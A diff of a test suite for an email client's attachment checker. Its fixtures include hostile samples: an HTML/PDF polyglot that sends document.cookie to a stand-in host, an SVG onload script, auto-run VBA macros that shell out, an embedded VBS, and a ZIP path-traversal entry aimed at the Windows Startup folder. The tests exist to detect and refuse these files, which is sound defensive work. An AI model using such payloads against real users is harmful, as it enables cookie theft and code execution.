@@ -1,145 +1,33 @@
-import { closeSync, openSync, readFileSync, readSync, statSync, writeFileSync, createWriteStream } from 'node:fs';
+import { readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { pipeline } from 'node:stream/promises';
-import { ZipArchive } from 'archiver';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   type AttachmentRules,
+  type ContentVerdict,
+  type FileKind,
   type FileProblem,
   type PolicyMessageKey,
-  type SniffKind,
-  SNIFF_BYTES,
   checkFile,
   checkMessage,
+  contentProblem,
   dialogAccept,
   matchesExtension,
   problemMessage,
-  sniff,
   sortAttachments,
   totalMessages,
 } from '../../common/attachment-policy';
 import { translator } from '../../common/i18n';
 import { configWith } from '../../main/config/load';
+import { inspectFile } from '../../main/files/content-inspector';
+import { BMP, DOC, DOCX, DOCX_PARTS, EXE, GIF, JPEG, PDF, PNG, RTF, WEBP, oleFile, zipOf } from '../support/sample-files';
 import { tempDir } from '../support/temp-dir';
 
 const MB = 1024 * 1024;
 // The shipped defaults, read through the real config loader: this also checks that main's
 // AttachmentRules fits the policy's own declaration of it.
 const RULES: AttachmentRules = configWith({}).attachments;
-
-// ---------------------------------------------------------------------------------------------
-// Sample files. ImageMagick is not installed here (/usr/bin/convert is absent; the convert on the
-// PATH is a stand-in that only prints PNGs), so the images are fixed bytes: the PNG and JPEG were
-// encoded by Chromium's canvas (1×1, the JPEG's ICC segment dropped) and decode in Chromium.
-
-const PNG_1X1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4AWI6w8DwHwAAAP//nfhwpgAAAAZJREFUAwAEPgHOcjLqVQAAAABJRU5ErkJggg==';
-const JPEG_1X1 =
-  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAABQb/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCdAHrB/9k=';
-const GIF_1X1 = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
-const WEBP_1X1 = 'UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==';
-
-/** A 2×2 24-bit BMP: BITMAPFILEHEADER + BITMAPINFOHEADER + two rows padded to 4 bytes, bottom-up. */
-function bmp2x2(): Buffer {
-  const rowSize = 8;
-  const pixelOffset = 14 + 40;
-  const b = Buffer.alloc(pixelOffset + rowSize * 2);
-  b.write('BM', 0, 'latin1');
-  b.writeUInt32LE(b.length, 2);
-  b.writeUInt32LE(pixelOffset, 10);
-  b.writeUInt32LE(40, 14);
-  b.writeInt32LE(2, 18);
-  b.writeInt32LE(2, 22);
-  b.writeUInt16LE(1, 26);
-  b.writeUInt16LE(24, 28);
-  b.writeUInt32LE(rowSize * 2, 34);
-  b.writeInt32LE(2835, 38);
-  b.writeInt32LE(2835, 42);
-  Buffer.from([0, 0, 255, 0, 255, 0, 0, 0, 255, 0, 0, 255, 255, 255, 0, 0]).copy(b, pixelOffset);
-  return b;
-}
-
-/** A one-page PDF with a correct cross-reference table, as `pdfinfo` or Acrobat would open it. */
-function minimalPdf(): Buffer {
-  const objects = [
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
-  ];
-  let pdf = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
-  const offsets = objects.map((body, i) => {
-    const at = pdf.length;
-    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`;
-    return at;
-  });
-  const xref = pdf.length;
-  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
-  pdf += offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
-  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
-  return Buffer.from(pdf, 'latin1');
-}
-
-const RTF = '{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs24 Hello from Postdesk\\par}\n';
-
-/** The 512-byte Compound File Binary header every .doc/.xls begins with, and its FAT sector. */
-function cfbDoc(): Buffer {
-  const b = Buffer.alloc(1024, 0);
-  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(b, 0);
-  b.writeUInt16LE(0x003e, 24);
-  b.writeUInt16LE(0x0003, 26);
-  b.writeUInt16LE(0xfffe, 28);
-  b.writeUInt16LE(9, 30);
-  b.writeUInt16LE(6, 32);
-  b.writeUInt32LE(1, 44);
-  b.writeUInt32LE(1, 48);
-  b.writeUInt32LE(0x1000, 56);
-  b.writeUInt32LE(0xfffffffe, 60);
-  b.writeUInt32LE(0xfffffffe, 68);
-  b.fill(0xff, 80, 512);
-  b.writeUInt32LE(0, 76);
-  b.fill(0xff, 512);
-  return b;
-}
-
-/** A PE file's start: DOS header with e_lfanew, the DOS stub message, then "PE\0\0" and a COFF header. */
-function peExe(): Buffer {
-  const b = Buffer.alloc(1024, 0);
-  b.write('MZ', 0, 'latin1');
-  b.writeUInt16LE(0x90, 2);
-  b.writeUInt16LE(3, 4);
-  b.writeUInt16LE(4, 8);
-  b.writeUInt16LE(0xffff, 12);
-  b.writeUInt16LE(0xb8, 16);
-  b.writeUInt16LE(0x40, 24);
-  b.writeUInt32LE(0x80, 0x3c);
-  b.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
-  b.write('PE\0\0', 0x80, 'latin1');
-  b.writeUInt16LE(0x8664, 0x84);
-  return b;
-}
-
-const CONTENT_TYPES =
-  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
-  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
-  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
-const RELS =
-  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
-  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
-const DOCUMENT =
-  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
-  '<w:body><w:p><w:r><w:t>Здравствуйте! Счет во вложении.</w:t></w:r></w:p></w:body></w:document>';
-
-type ZipEntrySpec = { name: string; content: string | Buffer; store?: boolean };
-
-/**
- * Writes a ZIP with archiver, as Postdesk's own "Download all" does. Deflated entries get their
- * sizes in data descriptors (local headers say 0, as Java and many servers write); stored entries
- * carry them in the local header (as Word and LibreOffice write).
- */
-async function writeZip(file: string, entries: ZipEntrySpec[]): Promise<void> {
-  const archive = new ZipArchive();
-  for (const e of entries) archive.append(Buffer.from(e.content), { name: e.name, store: e.store ?? false });
-  await Promise.all([pipeline(archive, createWriteStream(file)), archive.finalize()]);
-}
+const en = translator('en');
+const ru = translator('ru');
 
 /** Bytes that do not compress and, from a fixed seed, are the same every run. */
 function noise(length: number): Buffer {
@@ -154,106 +42,161 @@ function noise(length: number): Buffer {
   return b;
 }
 
+// Root CLSID of a Windows Installer package ({000C1084-0000-0000-C000-000000000046}, bytes in file order).
+const MSI_CLSID = '84100c0000000000c000000000000046';
+
+/** MSI stores its tables as streams whose names are packed into U+3800–U+4840 (the msi.dll encoding), behind U+4840. */
+function msiStreamName(table: string): string {
+  const digit = (c: string) => '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._'.indexOf(c);
+  let out = '\u4840';
+  for (let i = 0; i < table.length; i += 2) {
+    const first = digit(table[i]!);
+    const second = i + 1 < table.length ? digit(table[i + 1]!) : -1;
+    out += String.fromCharCode(second < 0 ? 0x4800 + first : 0x3800 + first + (second << 6));
+  }
+  return out;
+}
+
 const tmp = tempDir('postdesk-policy-');
 const sample = (name: string): string => path.join(tmp.dir, name);
 
-/** What main does: read at most SNIFF_BYTES from the start of the file. */
-function headOf(file: string, bytes = SNIFF_BYTES): Uint8Array {
-  const fd = openSync(file, 'r');
-  try {
-    const buffer = Buffer.alloc(bytes);
-    return buffer.subarray(0, readSync(fd, buffer, 0, bytes, 0));
-  } finally {
-    closeSync(fd);
-  }
-}
+// The hostile and the honest files, each as real bytes on disk.
+const SAMPLES: Record<string, Buffer | string> = {
+  'photo.png': PNG,
+  'photo.jpg': JPEG,
+  'anim.gif': GIF,
+  'pic.webp': WEBP,
+  'scan.bmp': BMP,
+  'invoice.pdf': PDF,
+  // A UTF-8 byte order mark and blank lines before the header: every PDF reader skips them.
+  'bom.pdf': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\r\n  \n'), PDF]),
+  // Some gateways leave a header line before the PDF: readers may skip it, but it is text first.
+  'gateway.pdf': Buffer.concat([Buffer.from('X-Scanned-By: gateway 1.0\r\n'), PDF]),
+  // HTML with "%PDF-" in a comment: a browser renders the page (and runs its script).
+  'html-polyglot.pdf': `<!-- %PDF-1.4 -->\n<html><body><script>location='https://evil.example/'+document.cookie</script></body></html>\n${PDF.toString('latin1')}`,
+  'svg-polyglot.pdf': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!-- %PDF-1.7 --></svg>`,
+  // A PDF that is also a ZIP with a program in it (unzip tools open its tail).
+  'zip-polyglot.pdf': zipOf([{ name: 'invoice.exe', content: EXE }], PDF),
+  'letter.rtf': RTF,
+  'old.doc': DOC,
+  // Word's own macro storage: Macros/VBA with a module and the project stream.
+  'macros.doc': oleFile({ '/WordDocument': Buffer.alloc(1024, 1), '/Macros/VBA/ThisDocument': 'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "cmd"\nEnd Sub', '/Macros/PROJECT': 'ID="{00000000-0000-0000-0000-000000000000}"' }),
+  'book.xls': oleFile({ '/Workbook': Buffer.alloc(2048, 9), '/\u0005SummaryInformation': Buffer.alloc(64) }),
+  'macro-book.xls': oleFile({ '/Workbook': Buffer.alloc(2048, 9), '/_VBA_PROJECT_CUR/VBA/Module1': 'Sub Auto_Open()' }),
+  'setup.msi': oleFile({ [`/${msiStreamName('_Tables')}`]: Buffer.alloc(64), [`/${msiStreamName('Property')}`]: Buffer.alloc(64), '/\u0005SummaryInformation': Buffer.alloc(128) }, MSI_CLSID),
+  'mail.msg': oleFile({ '/__substg1.0_0037001F': Buffer.from('Subject', 'utf16le'), '/__properties_version1.0': Buffer.alloc(32) }),
+  'setup.exe': EXE,
+  'true.elf': readFileSync('/bin/true').subarray(0, 4096),
+  'notes.txt': 'Здравствуйте, прикладываю счет.\nС уважением, Анна\n',
+  'mz-notes.txt': 'MZ-400 price list: 12 pcs.\n',
+  'bm-notes.txt': 'BMW service: 2 cars, 14:00 and 15:30\n',
+  'random.bin': noise(4096),
+  'contract.docx': DOCX,
+  'stored.docx': zipOf(DOCX_PARTS.map((e) => ({ ...e, store: true }))),
+  // A thumbnail before the body pushes word/ far from the start: the central directory still lists it.
+  'thumbnail-first.docx': zipOf([DOCX_PARTS[0]!, DOCX_PARTS[1]!, { name: 'docProps/thumbnail.jpeg', content: noise(400_000), store: true }, DOCX_PARTS[2]!]),
+  'with-setup.docx': zipOf([...DOCX_PARTS, { name: 'word/media/setup.exe', content: EXE, store: true }]),
+  'with-script.docx': zipOf([...DOCX_PARTS, { name: 'customXml/run.vbs', content: 'CreateObject("WScript.Shell").Run "calc"' }]),
+  'trailing-dot.docx': zipOf([...DOCX_PARTS, { name: 'word/readme.txt.exe.', content: EXE }]),
+  'macros.docx': zipOf([...DOCX_PARTS, { name: 'word/vbaProject.bin', content: oleFile({ '/VBA/ThisDocument': 'Sub AutoOpen()' }) }]),
+  // Any ZIP with a word/ entry (and a program inside): no [Content_Types].xml, so no Office document.
+  'word-folder.zip': zipOf([{ name: 'word/document.xml', content: '<w:document/>' }, { name: 'setup.exe', content: EXE }]),
+  'climbing.zip': zipOf([{ name: '../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat', content: 'calc' }]),
+  'book.xlsx': zipOf([DOCX_PARTS[0]!, { name: 'xl/workbook.xml', content: '<workbook/>' }]),
+  'slides.pptx': zipOf([DOCX_PARTS[0]!, { name: 'ppt/presentation.xml', content: '<presentation/>' }]),
+  'photos.zip': zipOf([{ name: 'readme.txt', content: 'Photos of the damaged parcel' }, { name: 'parcel.png', content: PNG, store: true }]),
+  'pk-only.docx': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(300, 7)]),
+  // Right magic bytes, no header behind them.
+  'magic-only.png': PNG.subarray(0, 8),
+  'cut-ihdr.png': PNG.subarray(0, 20),
+  'bad-crc.png': Buffer.concat([PNG.subarray(0, 29), Buffer.from([0, 0, 0, 0]), PNG.subarray(33)]),
+  'no-frame.jpg': Buffer.concat([JPEG.subarray(0, 20), Buffer.from([0xff, 0xd9])]),
+  'cut-header.bmp': BMP.subarray(0, 20),
+  'cut.gif': GIF.subarray(0, 8),
+};
 
-/** The whole check for a file on disk, under the name the operator sees (it may differ from the sample's). */
-function checkOnDisk(file: string, name: string): FileProblem | null {
-  return checkFile({ name, size: statSync(file).size, sniffed: sniff(headOf(file)) }, RULES);
-}
-
-beforeAll(async () => {
-  writeFileSync(sample('photo.png'), Buffer.from(PNG_1X1, 'base64'));
-  writeFileSync(sample('photo.jpg'), Buffer.from(JPEG_1X1, 'base64'));
-  writeFileSync(sample('anim.gif'), Buffer.from(GIF_1X1, 'base64'));
-  writeFileSync(sample('pic.webp'), Buffer.from(WEBP_1X1, 'base64'));
-  writeFileSync(sample('scan.bmp'), bmp2x2());
-  writeFileSync(sample('invoice.pdf'), minimalPdf());
-  // Some mail gateways and scanners leave a line before the header; PDF readers skip up to 1 KB.
-  writeFileSync(sample('gateway.pdf'), Buffer.concat([Buffer.from('X-Scanned-By: gateway 1.0\r\n'.repeat(30)), minimalPdf()]));
-  writeFileSync(sample('letter.rtf'), RTF);
-  writeFileSync(sample('old.doc'), cfbDoc());
-  writeFileSync(sample('setup.exe'), peExe());
-  writeFileSync(sample('true.elf'), readFileSync('/bin/true').subarray(0, 4096));
-  writeFileSync(sample('notes.txt'), 'Здравствуйте, прикладываю счет.\nС уважением, Анна\n');
-  writeFileSync(sample('mz-notes.txt'), 'MZ-400 price list: 12 pcs.\n');
-  writeFileSync(sample('bm-notes.txt'), 'BMW service: 2 cars, 14:00 and 15:30\n');
-  writeFileSync(sample('random.bin'), noise(4096));
-  const docx = [
-    { name: '[Content_Types].xml', content: CONTENT_TYPES },
-    { name: '_rels/.rels', content: RELS },
-    { name: 'word/document.xml', content: DOCUMENT },
-  ];
-  await writeZip(sample('contract.docx'), docx);
-  await writeZip(sample('stored.docx'), docx.map((e) => ({ ...e, store: true })));
-  // A thumbnail before the body pushes word/ past 8 KB: why SNIFF_BYTES is larger.
-  await writeZip(sample('thumbnail-first.docx'), [docx[0]!, docx[1]!, { name: 'docProps/thumbnail.jpeg', content: noise(40_000), store: true }, docx[2]!]);
-  await writeZip(sample('book.xlsx'), [{ name: '[Content_Types].xml', content: CONTENT_TYPES }, { name: 'xl/workbook.xml', content: '<workbook/>' }]);
-  await writeZip(sample('slides.pptx'), [{ name: '[Content_Types].xml', content: CONTENT_TYPES }, { name: 'ppt/presentation.xml', content: '<presentation/>' }]);
-  await writeZip(sample('photos.zip'), [
-    { name: 'readme.txt', content: 'Photos of the damaged parcel' },
-    { name: 'parcel.png', content: Buffer.from(PNG_1X1, 'base64'), store: true },
-  ]);
+beforeAll(() => {
+  for (const [name, bytes] of Object.entries(SAMPLES)) writeFileSync(sample(name), bytes);
 });
 
 afterAll(() => tmp.cleanup());
 
-describe('sniff on real files', () => {
-  it.each<[string, SniffKind]>([
-    ['photo.png', 'png'],
-    ['photo.jpg', 'jpeg'],
-    ['anim.gif', 'gif'],
-    ['pic.webp', 'webp'],
-    ['scan.bmp', 'bmp'],
-    ['invoice.pdf', 'pdf'],
-    ['gateway.pdf', 'pdf'],
-    ['letter.rtf', 'rtf'],
-    ['old.doc', 'ole'],
-    ['contract.docx', 'docx'],
-    ['stored.docx', 'docx'],
-    ['thumbnail-first.docx', 'docx'],
-    ['book.xlsx', 'xlsx'],
-    ['slides.pptx', 'pptx'],
-    ['photos.zip', 'zip'],
-    ['setup.exe', 'exe'],
-    ['true.elf', 'elf'],
-    ['notes.txt', 'text'],
-    ['mz-notes.txt', 'text'],
-    ['bm-notes.txt', 'text'],
-    ['random.bin', 'unknown'],
-  ])('%s is %s', (file, kind) => {
-    expect(sniff(headOf(sample(file)))).toEqual({ kind });
+/** The whole check for a file on disk, under the name the operator sees (it may differ from the sample's). */
+async function checkOnDisk(file: string, name: string): Promise<FileProblem | null> {
+  return checkFile({ name, size: statSync(sample(file)).size, content: await inspectFile(sample(file)) }, RULES);
+}
+
+/** What the operator reads beside the file, in English and in Russian. */
+function hint(problem: FileProblem | null): [string, string] | null {
+  if (!problem) return null;
+  const message = problemMessage(problem);
+  return [en(message.key, message.params), ru(message.key, message.params)];
+}
+
+describe('what a file really is, from its whole content', () => {
+  it.each<[string, ContentVerdict]>([
+    ['photo.png', { kind: 'png' }],
+    ['photo.jpg', { kind: 'jpeg' }],
+    ['anim.gif', { kind: 'gif' }],
+    ['pic.webp', { kind: 'webp' }],
+    ['scan.bmp', { kind: 'bmp' }],
+    ['invoice.pdf', { kind: 'pdf' }],
+    ['bom.pdf', { kind: 'pdf' }],
+    ['gateway.pdf', { kind: 'text' }],
+    ['html-polyglot.pdf', { kind: 'html' }],
+    ['svg-polyglot.pdf', { kind: 'html' }],
+    ['zip-polyglot.pdf', { kind: 'pdf', program: 'invoice.exe' }],
+    ['letter.rtf', { kind: 'rtf' }],
+    ['old.doc', { kind: 'doc' }],
+    ['macros.doc', { kind: 'doc', macros: true }],
+    ['book.xls', { kind: 'xls' }],
+    ['macro-book.xls', { kind: 'xls', macros: true }],
+    ['setup.msi', { kind: 'msi' }],
+    ['mail.msg', { kind: 'msg' }],
+    ['setup.exe', { kind: 'exe' }],
+    ['true.elf', { kind: 'elf' }],
+    ['notes.txt', { kind: 'text' }],
+    ['mz-notes.txt', { kind: 'text' }],
+    ['bm-notes.txt', { kind: 'text' }],
+    ['random.bin', { kind: 'unknown' }],
+    ['contract.docx', { kind: 'docx' }],
+    ['stored.docx', { kind: 'docx' }],
+    ['thumbnail-first.docx', { kind: 'docx' }],
+    ['with-setup.docx', { kind: 'docx', program: 'word/media/setup.exe' }],
+    ['with-script.docx', { kind: 'docx', program: 'customXml/run.vbs' }],
+    ['trailing-dot.docx', { kind: 'docx', program: 'word/readme.txt.exe.' }],
+    ['macros.docx', { kind: 'docx', macros: true }],
+    ['word-folder.zip', { kind: 'zip', program: 'setup.exe' }],
+    ['climbing.zip', { kind: 'zip', program: '../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat' }],
+    ['book.xlsx', { kind: 'xlsx' }],
+    ['slides.pptx', { kind: 'pptx' }],
+    ['photos.zip', { kind: 'zip' }],
+    ['pk-only.docx', { kind: 'unknown' }],
+    ['magic-only.png', { kind: 'unknown' }],
+    ['cut-ihdr.png', { kind: 'png', damaged: true }],
+    ['bad-crc.png', { kind: 'png', damaged: true }],
+    ['no-frame.jpg', { kind: 'jpeg', damaged: true }],
+    ['cut-header.bmp', { kind: 'bmp', damaged: true }],
+    ['cut.gif', { kind: 'gif', damaged: true }],
+  ])('%s: %j', async (file, verdict) => {
+    expect(await inspectFile(sample(file))).toEqual(verdict);
   });
 
-  it('needs more than 8 KB to see word/ behind a thumbnail, and SNIFF_BYTES covers it', () => {
-    expect(sniff(headOf(sample('thumbnail-first.docx'), 8 * 1024)).kind).toBe('zip');
-    expect(sniff(headOf(sample('thumbnail-first.docx'))).kind).toBe('docx');
+  it('calls an empty file "unknown"', async () => {
+    writeFileSync(sample('empty.pdf'), '');
+    expect(await inspectFile(sample('empty.pdf'))).toEqual({ kind: 'unknown' });
   });
 
-  it('finds %PDF- within the first 1024 bytes, not after', () => {
-    const pdf = minimalPdf();
-    expect(sniff(Buffer.concat([Buffer.alloc(1024, 0x20), pdf])).kind).toBe('pdf');
-    expect(sniff(Buffer.concat([Buffer.alloc(1025, 0x20), pdf])).kind).toBe('text');
+  it('names an executable first even when it also carries a PDF header', async () => {
+    writeFileSync(sample('exe-polyglot.pdf'), Buffer.concat([EXE.subarray(0, 512), PDF]));
+    expect(await inspectFile(sample('exe-polyglot.pdf'))).toEqual({ kind: 'exe' });
   });
 
-  it('names an executable first even when it also carries a PDF header', () => {
-    const polyglot = Buffer.concat([peExe().subarray(0, 512), minimalPdf()]);
-    expect(sniff(polyglot).kind).toBe('exe');
-  });
-
-  it('calls nothing read "unknown"', () => {
-    expect(sniff(new Uint8Array()).kind).toBe('unknown');
+  it('takes up to 1 KB of white space before %PDF-, not more', async () => {
+    writeFileSync(sample('spaced.pdf'), Buffer.concat([Buffer.alloc(1024, 0x20), PDF]));
+    writeFileSync(sample('too-spaced.pdf'), Buffer.concat([Buffer.alloc(1025, 0x20), PDF]));
+    expect(await inspectFile(sample('spaced.pdf'))).toEqual({ kind: 'pdf' });
+    expect(await inspectFile(sample('too-spaced.pdf'))).toEqual({ kind: 'text' });
   });
 });
 
@@ -264,38 +207,83 @@ describe('checkFile on real files', () => {
     ['photo.jpg', 'photo.jpeg'],
     ['scan.bmp', 'scan.bmp'],
     ['invoice.pdf', 'invoice.pdf'],
-    ['gateway.pdf', 'gateway.pdf'],
+    ['bom.pdf', 'bom.pdf'],
     ['letter.rtf', 'letter.rtf'],
     ['old.doc', 'old.doc'],
     ['contract.docx', 'contract.docx'],
     ['stored.docx', 'stored.docx'],
-  ])('accepts %s attached as %s', (file, name) => {
-    expect(checkOnDisk(sample(file), name)).toBeNull();
+    ['thumbnail-first.docx', 'thumbnail-first.docx'],
+  ])('accepts %s attached as %s', async (file, name) => {
+    expect(await checkOnDisk(file, name)).toBeNull();
   });
 
-  it('accepts RTF content in a .doc, as Word opens it', () => {
-    expect(checkOnDisk(sample('letter.rtf'), 'letter.doc')).toBeNull();
+  it('accepts RTF content in a .doc, as Word opens it', async () => {
+    expect(await checkOnDisk('letter.rtf', 'letter.doc')).toBeNull();
   });
 
-  it.each<[string, string, string, SniffKind]>([
-    ['a .pdf that is really an exe', 'setup.exe', 'invoice.pdf', 'exe'],
-    ['a .pdf that is really an ELF program', 'true.elf', 'invoice.pdf', 'elf'],
-    ['a .jpg that is really a PDF', 'invoice.pdf', 'photo.jpg', 'pdf'],
-    ['a .png that is really a PDF', 'invoice.pdf', 'photo.png', 'pdf'],
-    ['a .png that is really a JPEG', 'photo.jpg', 'photo.png', 'jpeg'],
-    ['a .docx that is a plain zip', 'photos.zip', 'contract.docx', 'zip'],
-    ['a .docx that is really a .doc', 'old.doc', 'contract.docx', 'ole'],
-    ['a .doc that is really a .docx', 'contract.docx', 'old.doc', 'docx'],
-    ['an .rtf that is really plain text', 'notes.txt', 'letter.rtf', 'text'],
-    ['a .bmp of unknown bytes', 'random.bin', 'scan.bmp', 'unknown'],
-  ])('refuses %s', (_label, file, name, actual) => {
-    const extension = name.slice(name.lastIndexOf('.') + 1);
-    expect(checkOnDisk(sample(file), name)).toEqual({ code: 'content_mismatch', extension, actual });
+  // Each polyglot of the issue, and the others above, with what the operator reads beside it.
+  it.each<[string, string, string, FileProblem, string, string]>([
+    ['HTML with %PDF- in a comment', 'html-polyglot.pdf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'html' }, 'This .pdf is really an HTML page', 'Файл .pdf на самом деле — веб-страница (HTML)'],
+    ['SVG with a script and %PDF- in a comment', 'svg-polyglot.pdf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'html' }, 'This .pdf is really an HTML page', 'Файл .pdf на самом деле — веб-страница (HTML)'],
+    ['a line of text before the PDF header', 'gateway.pdf', 'scan.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'text' }, 'This .pdf is really plain text', 'Файл .pdf на самом деле — простой текст'],
+    ['a PDF that is also a ZIP with a program', 'zip-polyglot.pdf', 'invoice.pdf', { code: 'contains_program', extension: 'pdf', entry: 'invoice.exe' }, 'This .pdf contains a program (invoice.exe)', 'Внутри файла .pdf — программа (invoice.exe)'],
+    ['a ZIP with a word/ entry and an .exe inside', 'word-folder.zip', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'zip' }, 'This .docx is really ZIP', 'Файл .docx на самом деле — ZIP'],
+    ['a real .docx with an .exe inside', 'with-setup.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'word/media/setup.exe' }, 'This .docx contains a program (word/media/setup.exe)', 'Внутри файла .docx — программа (word/media/setup.exe)'],
+    ['a .docx with a script inside', 'with-script.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'customXml/run.vbs' }, 'This .docx contains a program (customXml/run.vbs)', 'Внутри файла .docx — программа (customXml/run.vbs)'],
+    ['a .docx with a program hidden behind a trailing dot', 'trailing-dot.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'word/readme.txt.exe.' }, 'This .docx contains a program (word/readme.txt.exe.)', 'Внутри файла .docx — программа (word/readme.txt.exe.)'],
+    ['a .docx with vbaProject.bin (a .docm renamed)', 'macros.docx', 'contract.docx', { code: 'macros', extension: 'docx' }, 'This .docx contains macros', 'В файле .docx есть макросы'],
+    ['an MSI installer named .doc', 'setup.msi', 'contract.doc', { code: 'content_mismatch', extension: 'doc', actual: 'msi' }, 'This .doc is really a program (MSI)', 'Файл .doc на самом деле — программа (MSI)'],
+    ['an Excel workbook named .doc', 'book.xls', 'report.doc', { code: 'content_mismatch', extension: 'doc', actual: 'xls' }, 'This .doc is really XLS', 'Файл .doc на самом деле — XLS'],
+    ['an Outlook message named .doc', 'mail.msg', 'report.doc', { code: 'content_mismatch', extension: 'doc', actual: 'msg' }, 'This .doc is really MSG', 'Файл .doc на самом деле — MSG'],
+    ['a .doc with a Macros storage', 'macros.doc', 'contract.doc', { code: 'macros', extension: 'doc' }, 'This .doc contains macros', 'В файле .doc есть макросы'],
+    ['a text file named .rtf', 'notes.txt', 'letter.rtf', { code: 'content_mismatch', extension: 'rtf', actual: 'text' }, 'This .rtf is really plain text', 'Файл .rtf на самом деле — простой текст'],
+    ['a PNG of magic bytes only', 'magic-only.png', 'photo.png', { code: 'content_mismatch', extension: 'png', actual: 'unknown' }, 'The content of this file is not .png', 'Содержимое файла не соответствует формату .png'],
+    ['a PNG cut inside its IHDR', 'cut-ihdr.png', 'photo.png', { code: 'damaged', extension: 'png' }, 'This .png is damaged: its picture size cannot be read', 'Файл .png повреждён: не читается размер изображения'],
+    ['a PNG whose IHDR checksum is wrong', 'bad-crc.png', 'photo.png', { code: 'damaged', extension: 'png' }, 'This .png is damaged: its picture size cannot be read', 'Файл .png повреждён: не читается размер изображения'],
+    ['a JPEG without a frame header', 'no-frame.jpg', 'photo.jpg', { code: 'damaged', extension: 'jpg' }, 'This .jpg is damaged: its picture size cannot be read', 'Файл .jpg повреждён: не читается размер изображения'],
+    ['a BMP cut inside its header', 'cut-header.bmp', 'scan.bmp', { code: 'damaged', extension: 'bmp' }, 'This .bmp is damaged: its picture size cannot be read', 'Файл .bmp повреждён: не читается размер изображения'],
+    ['a .pdf that is really an exe', 'setup.exe', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'exe' }, 'This .pdf is really a program (EXE)', 'Файл .pdf на самом деле — программа (EXE)'],
+    ['a .pdf that is really an ELF program', 'true.elf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'elf' }, 'This .pdf is really a program (ELF)', 'Файл .pdf на самом деле — программа (ELF)'],
+    ['a .jpg that is really a PDF', 'invoice.pdf', 'photo.jpg', { code: 'content_mismatch', extension: 'jpg', actual: 'pdf' }, 'This .jpg is really PDF', 'Файл .jpg на самом деле — PDF'],
+    ['a .png that is really a JPEG', 'photo.jpg', 'photo.png', { code: 'content_mismatch', extension: 'png', actual: 'jpeg' }, 'This .png is really JPEG', 'Файл .png на самом деле — JPEG'],
+    ['a .docx that is a plain zip', 'photos.zip', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'zip' }, 'This .docx is really ZIP', 'Файл .docx на самом деле — ZIP'],
+    ['a .docx that is really a .doc', 'old.doc', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'doc' }, 'This .docx is really DOC', 'Файл .docx на самом деле — DOC'],
+    ['a .doc that is really a .docx', 'contract.docx', 'old.doc', { code: 'content_mismatch', extension: 'doc', actual: 'docx' }, 'This .doc is really DOCX', 'Файл .doc на самом деле — DOCX'],
+    ['a .docx of a ZIP signature and nothing else', 'pk-only.docx', 'report.docx', { code: 'content_mismatch', extension: 'docx', actual: 'unknown' }, 'The content of this file is not .docx', 'Содержимое файла не соответствует формату .docx'],
